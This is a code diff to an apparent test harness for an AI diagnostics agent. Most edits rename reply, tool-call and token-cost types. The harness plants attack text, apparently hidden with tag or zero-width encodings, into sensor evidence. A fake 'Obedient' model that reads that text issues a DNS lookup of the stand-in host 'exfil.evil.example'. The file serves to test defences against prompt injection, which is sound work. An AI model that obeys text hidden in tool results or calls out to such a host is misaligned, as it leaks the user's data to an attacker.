@@ -13,11 +13,11 @@ from typing import Any
 
 import yaml
 
-from flows.agent.money import Spent
-from flows.agent.reply import Asked, Reply
+from flows.agent.money import SpentTokens
+from flows.agent.reply import ModelReply, ToolCall
 from flows.model import Diagnosis
 from sensors.kit import Evidence, Sight
-from sensors.kit.reported import Told, reported
+from sensors.kit.reported import RecordedFacts, reported
 
 TAGS = re.compile(r"TAGS\(([^)]*)\)")
 ZERO_WIDTH = re.compile(r"ZW\(([^)]*)\)")
@@ -64,7 +64,7 @@ def _with(it: Evidence, path: str, text: str) -> Evidence:
         return Evidence(it.sensor, Sight.BLIND, why=text)
     facts = deepcopy(dict(reported(it)))
     _set(facts, path, text)
-    return replace(it, facts=Told(f"{it.summary}; {text}", facts))
+    return replace(it, facts=RecordedFacts(f"{it.summary}; {text}", facts))
 
 
 def _set(facts: Any, path: str, text: str) -> None:
@@ -106,13 +106,13 @@ class Obedient:
     attack: Attack
     besides: str
 
-    async def ask(self, purpose: str, request: Mapping[str, Any], within: float) -> Reply:
+    async def ask(self, purpose: str, request: Mapping[str, Any], within: float) -> ModelReply:
         obeys = self._reads_it(request)
         if not purpose.startswith("ask"):
-            return Reply(json.dumps(self._wish() if obeys else self._agreed()), (), (), Spent())
-        wish = Asked("toolu_1", "resolve_name", {"name": "exfil.evil.example"})
-        own = Asked("toolu_1", "ask_sensor", {"sensor": "net.mtu"})
-        return Reply("", (wish if obeys else own,), ({"type": "tool_use", "id": "toolu_1"},), Spent())
+            return ModelReply(json.dumps(self._wish() if obeys else self._agreed()), (), (), SpentTokens())
+        wish = ToolCall("toolu_1", "resolve_name", {"name": "exfil.evil.example"})
+        own = ToolCall("toolu_1", "ask_sensor", {"sensor": "net.mtu"})
+        return ModelReply("", (wish if obeys else own,), ({"type": "tool_use", "id": "toolu_1"},), SpentTokens())
 
     def _reads_it(self, request: Mapping[str, Any]) -> bool:
         read = " ".join(_texts(request["messages"]))
